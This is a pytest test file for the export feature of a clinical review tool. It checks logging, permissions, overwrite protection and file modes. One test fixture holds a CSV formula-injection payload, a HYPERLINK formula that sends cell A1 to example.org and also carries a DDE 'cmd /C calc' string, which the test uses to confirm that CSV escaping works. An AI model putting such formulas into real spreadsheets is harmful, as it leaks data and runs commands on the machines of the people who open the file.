"""Data leave the workspace, whole and logged."""

from __future__ import annotations

import csv
import hashlib
import io
import json
import stat
from pathlib import Path

import pyarrow.parquet as pq
import pytest

from hitl_review.domain.account import Actor, Role
from hitl_review.domain.decision import Answer, Choice
from hitl_review.errors import HitlError, NotPermitted, StoreUnavailable
from hitl_review.store import audit, cases, models, predictions
from hitl_review.store.checkpoints import anchor_path
from hitl_review.store.lock import writer_lock
from hitl_review.workflow.auditing import verify
from hitl_review.workflow.exporting import ExportError, export, put_in_place, waiting_beside
from hitl_review.workflow.workspace import Workspace
from tests.ward import Clock, decide

ATTACK = '=HYPERLINK("http://example.org?"&A1,"=cmd|\' /C calc\'!A0")'


def exports(workspace: Workspace) -> list[dict[str, object]]:
    """What the log tells of exports."""
    told = [event.told for event in audit.events(workspace.store)]
    return [each for each in told if each["action"] == "data.exported"]


@pytest.mark.parametrize("what", ["decisions", "labels", "cases"])
@pytest.mark.parametrize("form", ["csv", "jsonl", "parquet"])
def test_everything_can_leave_in_every_form_and_the_log_knows_it(
    reviewed: Workspace, auditor: Actor, tmp_path: Path, what: str, form: str
) -> None:
    """The event holds the digest of the very bytes, so a file found elsewhere can be matched with it."""
    out = tmp_path / f"{what}.{form}"
    exported = export(reviewed, what=what, form=form, out=out, actor=auditor)
    (told,) = exports(reviewed)
    assert told["subject"] == f"export:{what}"
    assert (told["actor"], told["event_id"]) == ("auditor-1", exported.event_id)
    assert told["detail"] == {
        "what": what,
        "format": form,
        "rows": exported.rows,
        "digest": "sha256:" + hashlib.sha256(out.read_bytes()).hexdigest(),
    }
    assert out.read_bytes() == exported.content
    assert exported.rows == {"decisions": 5, "labels": 6, "cases": 8}[what]
    assert len(rows_of(out, form)) == exported.rows


def rows_of(out: Path, form: str) -> list[object]:
    """The rows of an exported file, read by an ordinary reader."""
    if form == "parquet":
        return list(pq.read_table(out).to_pylist())
    text = out.read_text(encoding="utf-8")
    if form == "jsonl":
        return [json.loads(line) for line in text.splitlines()]
    return list(csv.DictReader(io.StringIO(text, newline="")))


def test_without_a_file_the_bytes_are_returned_and_logged_all_the_same(
    reviewed: Workspace, auditor: Actor
) -> None:
    """A download from a page is an export too."""
    exported = export(reviewed, what="decisions", form="jsonl", out=None, actor=auditor)
    assert exported.path is None
    assert len(exported.content.splitlines()) == 5
    assert len(exports(reviewed)) == 1


def test_a_checkpoint_closes_an_export(reviewed: Workspace, auditor: Actor) -> None:
    """In the log, and in the file of checkpoints: what left can't be told otherwise later."""
    exported = export(reviewed, what="decisions", form="csv", out=None, actor=auditor)
    told, closing = list(audit.events(reviewed.store))[-2:]
    assert (told.event_id, closing.told["action"]) == (exported.event_id, "checkpoint.published")
    assert closing.told["detail"]["note"] in anchor_path(reviewed.folder).read_text(encoding="utf-8")


def test_a_formula_in_a_comment_is_defused_in_csv_and_exact_in_its_twins(
    reviewed: Workspace, auditor: Actor, reader: Actor, clock: Clock
) -> None:
    """A comment is typed by a person and opened in a spreadsheet by another."""
    case = cases.get(reviewed.store, "C-6")
    model = models.champion(reviewed.store).digest
    shown = predictions.find(reviewed.store, "C-6", model=model, snapshot=case.snapshot.digest)
    assert shown is not None
    choice = Choice(Answer.OVERRIDDEN, reason="seen_patient", comment=ATTACK)
    decide(reviewed, shown, choice, reader=reader, clock=clock)
    as_csv = export(reviewed, what="decisions", form="csv", out=None, actor=auditor).content.decode()
    last = list(csv.DictReader(io.StringIO(as_csv, newline="")))[-1]
    assert last["comment"] == "'" + ATTACK
    lines = export(reviewed, what="decisions", form="jsonl", out=None, actor=auditor).content
    assert json.loads(lines.splitlines()[-1])["comment"] == ATTACK
    parquet = export(reviewed, what="decisions", form="parquet", out=None, actor=auditor).content
    assert pq.read_table(io.BytesIO(parquet)).to_pylist()[-1]["comment"] == ATTACK


@pytest.mark.parametrize("role", [Role.READER, Role.ADJUDICATOR, Role.APPROVER, Role.ADMIN])
def test_a_role_that_may_not_export_takes_nothing_out(
    reviewed: Workspace, tmp_path: Path, role: Role
) -> None:
    """Neither a file nor bytes nor an event."""
    out = tmp_path / "x.csv"
    with pytest.raises(NotPermitted, match="may not export data"):
        export(reviewed, what="cases", form="csv", out=out, actor=Actor("x", "X", role))
    assert not out.exists()
    assert exports(reviewed) == []


def test_a_file_that_is_there_is_not_replaced(reviewed: Workspace, auditor: Actor, tmp_path: Path) -> None:
    """The workspace's own database, for instance."""
    database = reviewed.folder / "review.db"
    before = database.read_bytes()
    with pytest.raises(ExportError, match=r"There is a file review\.db already"):
        export(reviewed, what="cases", form="csv", out=database, actor=auditor)
    assert database.read_bytes() == before
    assert exports(reviewed) == []


def test_a_link_that_leads_nowhere_is_not_replaced(
    reviewed: Workspace, auditor: Actor, tmp_path: Path
) -> None:
    """It is somebody's, wherever it led."""
    (tmp_path / "x.csv").symlink_to(tmp_path / "nowhere")
    with pytest.raises(ExportError, match="already"):
        export(reviewed, what="cases", form="csv", out=tmp_path / "x.csv", actor=auditor)
    assert (tmp_path / "x.csv").is_symlink() and exports(reviewed) == []


def test_a_file_that_came_meanwhile_is_not_replaced(tmp_path: Path) -> None:
    """Two exports under one name: the second is told, and the first one's file stays."""
    out = tmp_path / "x.csv"
    with pytest.raises(ExportError, match="already"), waiting_beside(out, b"second") as waiting:
        out.write_bytes(b"first")
        put_in_place(waiting, out)
    assert [(each.name, each.read_bytes()) for each in tmp_path.iterdir()] == [("x.csv", b"first")]


def test_an_exported_file_is_for_its_owner_only(reviewed: Workspace, auditor: Actor, tmp_path: Path) -> None:
    """It holds patients' values."""
    export(reviewed, what="cases", form="csv", out=tmp_path / "x.csv", actor=auditor)
    assert stat.S_IMODE((tmp_path / "x.csv").stat().st_mode) == 0o600


def test_an_export_that_the_log_cannot_tell_of_does_not_happen(
    reviewed: Workspace, auditor: Actor, tmp_path: Path
) -> None:
    """Another program holds the database: no file, and nothing half-written beside it."""
    folder = tmp_path / "out"
    folder.mkdir()
    reviewed.store.busy_seconds = 0.05
    held = reviewed.store.path.with_name("review.db.lock")
    with writer_lock(held, timeout_seconds=1), pytest.raises(StoreUnavailable):
        export(reviewed, what="cases", form="csv", out=folder / "x.csv", actor=auditor)
    assert list(folder.iterdir()) == []
    assert exports(reviewed) == []


def test_a_folder_that_is_not_there_is_told_and_nothing_is_logged(
    reviewed: Workspace, auditor: Actor, tmp_path: Path
) -> None:
    """The file is written under another name before the event, so the log never tells of one that failed."""
    with pytest.raises(ExportError, match=r"x\.csv can't be written \(No such file or directory\)"):
        export(reviewed, what="cases", form="csv", out=tmp_path / "none" / "x.csv", actor=auditor)
    assert exports(reviewed) == []


@pytest.mark.parametrize(("what", "form"), [("secrets", "csv"), ("cases", "xlsx")])
def test_what_cannot_be_exported_is_told_with_what_can(
    reviewed: Workspace, auditor: Actor, what: str, form: str
) -> None:
    """A sentence, not a KeyError."""
    with pytest.raises(HitlError, match=r"There is no way to .* Choose one of"):
        export(reviewed, what=what, form=form, out=None, actor=auditor)
    assert exports(reviewed) == []


def test_no_clinical_value_stands_in_the_event(reviewed: Workspace, auditor: Actor) -> None:
    """Counts and digests only."""
    export(reviewed, what="decisions", form="csv", out=None, actor=auditor)
    payload = next(event.payload for event in audit.latest(reviewed.store, limit=1))
    assert "stairs" not in payload
    assert "C-2" not in payload


def test_the_log_verifies_after_exports(reviewed: Workspace, auditor: Actor) -> None:
    """An export adds its event and changes nothing else."""
    export(reviewed, what="labels", form="csv", out=None, actor=auditor)
    found = verify(reviewed.folder)
    assert found.ok, found.problems
